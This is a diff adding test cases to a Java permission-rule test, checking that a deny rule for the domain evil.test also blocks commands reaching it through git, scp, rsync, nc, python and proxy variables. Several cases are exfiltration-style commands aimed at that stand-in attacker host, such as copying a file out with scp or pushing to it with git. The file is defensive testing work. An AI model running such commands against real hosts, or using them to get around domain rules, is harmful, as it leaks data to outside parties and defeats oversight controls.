@@ -378,6 +378,23 @@ final class CommandRulesTest {
         "wget -qO- evil.test/x, deny",
         "ssh -p 22 me@evil.test ls, deny",
         "curl https://example.test, ask",
+        "git clone http://evil.test/x, deny",
+        "git push git@evil.test:x main, deny",
+        "rsync -a evil.test::m x, deny",
+        "scp a.txt evil.test:x, deny",
+        "scp a.txt me@evil.test:x, deny",
+        "nc evil.test 80, deny",
+        "ping -c1 evil.test, deny",
+        "unheard-of --from=https://Evil.test./x, deny",
+        "python3 -c 'get(\"http://evil.test\")', deny",
+        "http_proxy=http://evil.test:80 curl https://example.test, deny",
+        "export https_proxy=http://evil.test; make, deny",
+        "env all_proxy=socks5://evil.test make, deny",
+        "git -c http.proxy=http://evil.test fetch, deny",
+        "git clone http://example.test/x, ask",
+        "scp a.txt example.test:x, ask",
+        "git commit -m 'evil.test is down', ask",
+        "echo http://evil.test, allow",
     })
     void a_rule_about_a_domain_holds_for_programs_that_speak_to_it(String script, String expected) {
         assertThat(judge(rules -> rules.deny("WebFetch(domain:evil.test)"), script))
